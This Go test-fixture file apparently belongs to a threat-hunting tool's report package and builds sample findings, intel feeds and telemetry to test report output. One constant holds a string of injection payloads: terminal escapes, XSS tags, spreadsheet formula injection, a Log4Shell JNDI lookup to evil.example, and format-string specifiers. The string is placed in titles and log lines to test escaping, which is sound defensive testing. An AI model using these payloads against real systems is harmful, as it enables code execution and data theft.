package report

import (
	"net/netip"
	"strings"
	"time"

	"stormglass/internal/hunt"
	"stormglass/internal/intel"
	"stormglass/internal/observable"
	"stormglass/internal/telemetry"
)

// hostile is what an outsider may write into a title, a log or a file name.
const hostile = "\x1b[31mred\x1b]52;c;aGk=\a\u202egnp.exe\u200b\u009b2J<script>alert(1)</script>\"><img src=x onerror=alert(1)>\r\n=cmd()|' /C calc'!A0;=HYPERLINK(\"http://evil.example/\")${jndi:ldap://evil.example/a}{{7*7}}%n%s\xff"

func at(s string) telemetry.Instant {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return telemetry.InstantOf(t)
}

func day(s string) telemetry.Day { return at(s + "T12:00:00Z").Day() }

func value(k observable.Kind, s string) observable.Value {
	v, err := observable.ParseAs(k, s)
	if err != nil {
		panic(err)
	}
	return v
}

func address(s string) hunt.Subject { return hunt.Subject{Addr: netip.MustParseAddr(s)} }

func ends(src string, sport uint16, dst string, dport uint16) telemetry.Ends {
	return telemetry.Ends{Src: netip.MustParseAddr(src), Dst: netip.MustParseAddr(dst), SrcPort: sport, DstPort: dport, Proto: 6}
}

var (
	circl = &intel.Source{
		Format: "misp", File: "feeds/circl/5e1f.json", ID: "5e1f0a4c-1111-4c4c-8888-0242ac120002", Org: "CIRCL",
		Title: "OSINT - Salt Typhoon infrastructure seen at cdn.evil-cdn.example", TLP: intel.AmberStrict, PAP: "PAP:AMBER",
		Published: time.Date(2026, 11, 2, 8, 0, 0, 0, time.UTC), Actors: []string{"Salt Typhoon", "GhostEmperor"},
		Campaigns: []string{"Carrier break-ins of 2024"}, Malware: []string{"GhostSpider", "Demodex"}, Tags: []string{"type:OSINT"},
	}
	partner = &intel.Source{
		Format: "stix", File: "partner/bundle.json", ID: "report--0f1c", Org: "T-ISAC", Title: "Members only: edge devices",
		TLP: intel.Red, Published: time.Date(2026, 11, 10, 0, 0, 0, 0, time.UTC), Actors: []string{"UNC-4711"},
	}
	blocklist = &intel.Source{Format: "list", File: "lists/block.txt"}
	villain   = &intel.Source{Format: "misp", File: "feeds/x.json", Org: hostile, Title: hostile + "!", Actors: []string{hostile}, TLP: intel.Green}
)

func refs(s *intel.Source, r intel.Ref) []hunt.Ref { return []hunt.Ref{{Ref: r, Source: s}} }

// finding completes a finding from its days, as the hunt does.
func finding(f *hunt.Finding, days ...hunt.Day) *hunt.Finding {
	f.Merge(&hunt.Finding{
		Days: days, Value: f.Value, Subject: f.Subject, Subjects: max(f.Subjects, 1), Level: f.Level, Because: f.Because,
		Kinds: f.Kinds, Fields: f.Fields, Roles: f.Roles, Part: f.Part, Warnings: f.Warnings, Also: f.Also, TLP: f.TLP, Refs: f.Refs,
	})
	f.ID = hunt.IndicatorFindingID(f.Value, f.Subject)
	return f
}

func sample(file string, line uint64, when, field, seen string, e telemetry.Ends, text string) hunt.Sample {
	s := hunt.Sample{Source: file, Ordinal: line, Field: field, Seen: seen, Ends: e}
	if text != "" && field != "message" {
		for part := range strings.SplitSeq(text, " ") {
			name, value, _ := strings.Cut(part, "=")
			s.Fields = append(s.Fields, hunt.SampleField{Name: name, Value: value})
		}
	} else {
		s.Line = text
	}
	if when != "" {
		s.Occurred = at(when)
	}
	return s
}

func parentFinding() *hunt.Finding {
	e := ends("10.20.30.40", 51234, "10.0.0.53", 53)
	return finding(&hunt.Finding{
		Value: value(observable.Domain, "evil-cdn.example"), Subject: address("10.20.30.40"), Level: hunt.High, Part: intel.Parent,
		Kinds: []telemetry.Kind{telemetry.KindDNS, telemetry.KindTLS}, Fields: []string{"dns.question.name", "tls.client.server_name"},
		Roles: hunt.Roles(hunt.RoleCalled), TLP: intel.AmberStrict, Also: []string{"Earth Estries", "FamousSparrow"},
		Refs: refs(circl, intel.Ref{ID: "a1", Comment: "C2, see https://blog.example/post", From: time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)}),
	},
		hunt.Day{Day: day("2026-11-18"), Records: 3, First: at("2026-11-18T07:15:02Z"), Last: at("2026-11-18T22:01:00Z"), Samples: []hunt.Sample{
			sample("zeek/dns.log.gz", 124, "2026-11-18T07:15:02Z", "dns.question.name", "cdn.evil-cdn.example", e, "dns.question.name=cdn.evil-cdn.example dns.question.type=A dns.response_code=NOERROR dns.answers.data=203.0.113.77,203.0.113.78"),
		}},
		hunt.Day{Day: day("2026-11-20"), Records: 121, First: at("2026-11-20T00:00:10Z"), Last: at("2026-11-20T11:02:33Z"), Samples: []hunt.Sample{
			sample("zeek/ssl.log.gz", 9, "2026-11-20T00:00:10Z", "tls.client.server_name", "x.evil-cdn.example", ends("10.20.30.40", 50000, "203.0.113.77", 443), "tls.client.server_name=x.evil-cdn.example tls.version=TLSv13"),
		}})
}

func addrFinding() *hunt.Finding {
	e := ends("2001:db8:1::40", 40000, "2001:db8:bad::7", 443)
	return finding(&hunt.Finding{
		Value: value(observable.Addr, "2001:db8:bad::7"), Subject: address("2001:db8:1::40"), Level: hunt.High,
		Kinds: []telemetry.Kind{telemetry.KindFlow}, Fields: []string{"destination.ip"}, Roles: hunt.Roles(hunt.RoleCalled) | hunt.Roles(hunt.RoleCalledUs),
		TLP: intel.Red, Refs: append(refs(partner, intel.Ref{Port: 443, Comment: "implant of edge routers"}), refs(blocklist, intel.Ref{})...),
	}, hunt.Day{Day: day("2026-11-19"), Records: 48211, Bytes: 1_234_567_890, First: at("2026-11-19T00:00:01Z"), Last: at("2026-11-19T23:59:58Z"), Samples: []hunt.Sample{
		func() hunt.Sample {
			s := sample("flows/nfdump-2026-11-19.csv", 77123, "2026-11-19T00:00:01Z", "destination.ip", "2001:db8:bad::7", e, "")
			s.Flow, s.Doubt = "1:LQU9qZlK+B5F3KDmev6m5PMibrg=", 90*time.Second
			return s
		}(),
	}})
}

func prefixFinding() *hunt.Finding {
	return finding(&hunt.Finding{
		Value: value(observable.Prefix, "198.51.100.0/24"), Subject: address("10.20.30.41"), Level: hunt.Low, Part: intel.CoveringPrefix,
		Because: []string{"every record is outside the indicator's validity"}, Kinds: []telemetry.Kind{telemetry.KindFlow}, Fields: []string{"destination.ip"},
		Roles: hunt.Roles(hunt.RoleCalled), Refs: refs(blocklist, intel.Ref{Until: time.Date(2026, 6, 30, 0, 0, 0, 0, time.UTC)}),
	}, hunt.Day{Day: day("2026-11-18"), Records: 1, Bytes: 812, Historical: 1, First: at("2026-11-18T03:00:00Z"), Last: at("2026-11-18T03:00:00Z"), Samples: []hunt.Sample{
		sample("flows/nfdump-2026-11-18.csv", 12, "2026-11-18T03:00:00Z", "destination.ip", "198.51.100.9", ends("10.20.30.41", 33000, "198.51.100.9", 8443), ""),
	}})
}

func warningFinding() *hunt.Finding {
	return finding(&hunt.Finding{
		Value: value(observable.Addr, "8.8.8.8"), Subject: hunt.Subject{Kind: hunt.SubjectDevice, Name: "rtr-ams-1"}, Level: hunt.Low,
		Because: []string{"on warning list List of known IPv4 public DNS resolvers"}, Warnings: []string{"List of known IPv4 public DNS resolvers"},
		Kinds: []telemetry.Kind{telemetry.KindEvent}, Fields: []string{"message"}, Roles: hunt.Roles(hunt.RoleMentioned), TLP: intel.Green,
		Refs: refs(villain, intel.Ref{Comment: hostile, Names: []string{hostile}}),
	}, hunt.Day{Records: 2, Samples: []hunt.Sample{
		sample("syslog/"+hostile, 4, "", "message", "8.8.8.8", telemetry.Ends{}, "<189>: %SYS-5-CONFIG_I: Configured from console by admin on vty0 (8.8.8.8) "+hostile),
	}})
}

func mergedFinding() *hunt.Finding {
	f := finding(&hunt.Finding{
		Value:   value(observable.URL, "http://update.evil.example:8080/a/very/long/path/that/goes/on/and/on/and/on/and/on/until/it/does/not/fit/any/line/payload.bin?id=1"),
		Subject: hunt.Subject{Kind: hunt.SubjectSource, Name: "many"}, Subjects: 48123, Level: hunt.Medium, Part: intel.WithoutQuery,
		Kinds: []telemetry.Kind{telemetry.KindHTTP}, Fields: []string{"url.original"}, Roles: hunt.Roles(hunt.RoleCalled) | hunt.Roles(hunt.RoleCalledNoAnswer),
		Refs: refs(blocklist, intel.Ref{}),
	}, hunt.Day{Day: day("2026-11-20"), Records: 90000, First: at("2026-11-20T01:00:00Z"), Last: at("2026-11-20T02:00:00Z")})
	return f
}

func scanFinding() *hunt.Finding {
	return finding(&hunt.Finding{
		Value: value(observable.Addr, "203.0.113.200"), Subject: address("192.0.2.10"), Level: hunt.Informational,
		Because: []string{"only inbound and unanswered"}, Kinds: []telemetry.Kind{telemetry.KindFlow}, Fields: []string{"source.ip"},
		Roles: hunt.Roles(hunt.RoleScannedBy), TLP: intel.Clear, Refs: refs(&intel.Source{Format: "csv", File: "scanners.csv", Title: "Known scanners", TLP: intel.Clear}, intel.Ref{}),
	}, hunt.Day{Day: day("2026-11-19"), Records: 7, First: at("2026-11-19T10:00:00Z"), Last: at("2026-11-19T10:20:00Z")})
}

// full is a result with something of everything.
func full() *hunt.Result {
	r := empty()
	r.Findings = []*hunt.Finding{addrFinding(), parentFinding(), mergedFinding(), warningFinding(), prefixFinding(), scanFinding()}
	r.Merged = 1
	r.Warnings = map[string]int{"Top 1000 sites": 3}
	return r
}

// empty is a result with records and no findings.
func empty() *hunt.Result {
	id := func(b byte) (id telemetry.SourceID) {
		for i := range id {
			id[i] = b + byte(i)
		}
		return id
	}
	dns := &telemetry.Account{
		Source: telemetry.Source{Name: "zeek/dns.log.gz", ID: id(1)}, Format: "zeek", Bytes: 81_234_567, Lines: 234_570, Read: 234_567,
		First: at("2026-11-18T00:00:00Z"), Last: at("2026-11-20T23:59:59Z"),
		Problems: telemetry.Problems{List: []telemetry.Problem{{Reason: "wrong number of columns", Count: 3, Examples: []telemetry.Example{
			{Line: 120, Detail: "expected 24, found 3"}, {Line: 900, Detail: "expected 24, found 25 " + hostile},
		}}}},
	}
	dns.Kinds[telemetry.KindDNS] = 234_567
	flow := &telemetry.Account{
		Source: telemetry.Source{Name: "flows/nfdump-2026-11-19.csv", ID: id(2)}, Format: "nfdump-csv", Bytes: 1_999_999_999, Lines: 1_000_000, Read: 1_000_000,
		First: at("2026-11-19T00:00:00Z"), Last: at("2026-11-19T23:59:59Z"),
	}
	flow.Kinds[telemetry.KindFlow] = 1_000_000
	syslog := &telemetry.Account{
		Source: telemetry.Source{Name: "syslog/core.log"}, Format: "text", Bytes: 4096, Lines: 50, Read: 50, Undated: 2,
		First: at("2026-11-18T09:00:00Z"), Last: at("2026-11-18T10:00:00Z"), Hosts: []string{"rtr-ams-1", "rtr-ams-2", hostile},
		Datasets: map[string]uint64{"syslog": 50}, Failed: "unexpected EOF",
	}
	syslog.Kinds[telemetry.KindEvent] = 50
	return &hunt.Result{
		Started: time.Date(2026, 11, 21, 6, 0, 0, 0, time.UTC), Took: 3200 * time.Millisecond, Version: "0.1.0", Values: 12_345, Hunted: hunted,
		Accounts: []*telemetry.Account{
			dns, flow, syslog,
			{Source: telemetry.Source{Name: "old/dns.log.gz", ID: id(1)}, Format: "zeek", SameAs: "zeek/dns.log.gz", Kinds: dns.Kinds, Read: dns.Read},
			{Source: telemetry.Source{Name: "captures/edge.pcap"}, Skipped: "not a format that is read here: a network capture (pcap)"},
		},
		Library: &intel.Library{
			Sources: []*intel.Source{circl, partner, blocklist, villain}, Actors: []intel.Actor{{Name: "Salt Typhoon"}},
			Vulnerabilities: make([]intel.Vulnerability, 1423), WarningLists: []*intel.WarningList{{Name: "Top 1000 sites"}},
		},
		Intel: []*intel.FileReport{
			{
				File: "feeds/circl/5e1f.json", Format: "misp", Total: 13_000, Loaded: 12_000,
				Listed:   map[string]int{"kind asn is not searched in telemetry": 800, "to_ids is false": 100},
				Reported: map[string]int{"value is not a domain name": 100}, Parts: map[string]int{"too broad: a prefix shorter than /8": 1},
				Notes: []intel.Note{
					{Outcome: intel.Reported, Reason: "value is not a domain name", Where: "attribute 5a3c", Value: "http//broken.example" + hostile},
					{Outcome: intel.Listed, Reason: "kind asn is not searched in telemetry", Where: "attribute 77", Value: "AS64496"},
					{Outcome: intel.Listed, Reason: "too broad: a prefix shorter than /8", Where: "attribute 78", Value: "10.0.0.0/7", Part: true},
				},
			},
			{File: "partner/bundle.json", Format: "stix", Total: 345, Loaded: 345},
			{File: "broken.json", Skipped: "permission denied"},
		},
	}
}

// hunted are the values of the fixtures: no e-mail addresses, no file names.
var hunted = map[observable.Kind]int{
	observable.Addr: 6000, observable.Domain: 6000, observable.URL: 300, observable.SHA256: 33, observable.JA3: 12,
}
